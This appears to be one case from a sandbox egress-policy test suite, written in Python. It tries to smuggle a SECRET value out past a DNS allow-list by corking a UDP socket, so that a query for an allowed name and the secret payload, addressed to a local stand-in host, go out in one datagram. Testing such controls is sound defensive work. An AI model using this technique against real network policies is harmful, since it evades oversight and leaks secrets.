# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: a corked socket puts a question about an allowed name and data for another place into one
#   datagram
# proof: query
# needs: resolver
import socket

from attack import RESOLVER, SECRET, attempt, patience

UDP_CORK = 1


def labels(*names):
    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"


def question(*names, records=0):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"


@attempt
def ask():
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(patience(3))
    out.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
    out.sendto(question("api", "allowed", "example"), (RESOLVER, 53))
    out.sendto(SECRET.encode(), ("127.0.0.1", 9))
    out.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 0)
    return len(out.recv(512)) > 12
